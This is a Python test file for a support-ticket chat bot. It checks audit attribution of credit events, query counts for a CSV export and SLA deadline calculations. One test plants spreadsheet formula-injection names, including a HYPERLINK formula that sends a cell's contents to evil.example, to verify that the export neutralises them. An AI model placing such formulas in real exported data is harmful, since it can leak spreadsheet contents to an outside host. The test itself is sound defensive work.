"""Cred is audited as the person who resolved; the CSV export is one identities query and safe to open
in a spreadsheet; SLA ladders load their basis once per ticket."""
from __future__ import annotations

import csv
import io
from contextlib import contextmanager

from chatops.models import AuditEvent, Person
from chatops.support import cred, sla
from chatops.support.models import TicketEvent

from .helpers import CORA, LEE, SAM, last_ticket


@contextmanager
def counting(db, monkeypatch):
    seen: list[str] = []
    real = db.execute_sql

    def execute_sql(sql, params=None, *args, **kwargs):
        seen.append(sql)
        return real(sql, params, *args, **kwargs)

    monkeypatch.setattr(db, "execute_sql", execute_sql)
    try:
        yield seen
    finally:
        monkeypatch.setattr(db, "execute_sql", real)


def _resolved(sup, by=SAM):
    sup.invoke("support how do callbacks work", channel_id="C0MAKERDAO", **CORA)
    t = last_ticket()
    sup.invoke(f"ticket claim {t.id}", **SAM)
    sup.invoke(f"ticket reply {t.id} look at the docs", **LEE)
    r = sup.invoke(f"ticket resolve {t.id}", **by)
    assert not r.is_error, r.text
    return t


def test_cred_is_audited_as_the_person_who_resolved(sup):
    t = _resolved(sup, by=LEE)
    events = list(AuditEvent.select().where(AuditEvent.command == "ticket:cred"))
    assert len(events) == 2
    lee = Person.get(Person.name == "Lee Lead")
    assert all(e.actor.startswith("slack:U0LEELEAD") and e.actor_person_id == lee.id for e in events)
    assert not AuditEvent.select().where((AuditEvent.command == "ticket:cred")
                                         & (AuditEvent.actor == "system:sla-sweeper")).exists()
    assert {e.actor_id for e in TicketEvent.select().where((TicketEvent.ticket == t.id)
                                                           & (TicketEvent.kind == "cred"))} == {lee.id}


def test_csv_export_reads_identities_once_and_defuses_formulas(sup, monkeypatch):
    for _ in range(4):
        _resolved(sup)
    Person.update(name='=HYPERLINK("http://evil.example/?"&A1,"click")').where(
        Person.name == "Sam Support").execute()
    Person.update(name="@SUM(1+1)").where(Person.name == "Lee Lead").execute()
    buf = io.StringIO()
    with counting(sup.db, monkeypatch) as seen:
        assert cred.export_csv(buf) == 8
    assert sum('"identity"' in q for q in seen) == 1, seen
    assert len(seen) <= 3  # names, identities, events: not one query per row
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    names = {r["person"] for r in rows}
    assert names == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)"}
    assert all(not r["person"].startswith(("=", "+", "-", "@")) for r in rows)
    sam_rows = [r for r in rows if r["person"].startswith("'=")]
    assert sam_rows[0]["identities"] == "slack:U0SAMSUPP discord:200000000000000002"
    assert float(rows[0]["amount"]) == 3.0  # numbers stay numbers


def test_safe_cell():
    assert cred.safe_cell("-1+2") == "'-1+2" and cred.safe_cell("+x") == "'+x" and cred.safe_cell("\tx") == "'\tx"
    assert cred.safe_cell("Sam") == "Sam" and cred.safe_cell(-1.5) == -1.5


def test_ladder_loads_clock_start_tier_and_calendar_once_per_ticket(sup, monkeypatch):
    sup.invoke("support how do callbacks work", channel_id="C0MAKERDAO", **CORA)  # premium: a calendar
    t = last_ticket()
    t = type(t).get_by_id(t.id)  # a fresh object, as the sweeper reads it
    settings = sup.router.settings
    with counting(sup.db, monkeypatch) as seen:
        first = sla.ladder(t, "first_response", settings)
    assert 1 <= len(seen) <= 3
    with counting(sup.db, monkeypatch) as seen:
        for _ in range(5):
            assert sla.ladder(t, "first_response", settings) == first
            sla.ladder(t, "resolution", settings)
            sla.next_due(t, settings)
    assert seen == []


def test_a_reopen_recomputes_the_basis(sup, clock):
    t = _resolved(sup)
    clock.advance(hours=2)
    sup.invoke(f"ticket reopen {t.id}", **CORA)
    t = last_ticket()
    assert sla.basis(t).start == clock() and t.next_due is not None
